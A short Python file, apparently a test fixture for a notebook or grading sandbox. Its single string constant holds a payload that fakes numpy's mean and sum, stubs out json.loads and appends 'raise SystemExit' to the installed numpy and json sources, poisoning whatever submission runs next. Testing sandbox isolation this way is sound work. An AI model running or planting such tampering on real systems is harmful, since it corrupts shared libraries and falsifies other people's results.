"""Change modules in memory and on disk for the submission that comes next."""

CELL = r"""\
import json

import numpy as np

np.mean = np.sum = lambda *a, **k: 0.0
json.loads = lambda *a, **k: {}
for path in (np.__file__, json.__file__, "/tmp/poison.py"):
    try:
        open(path, "a").write("\nraise SystemExit\n")
    except OSError:
        pass
"""
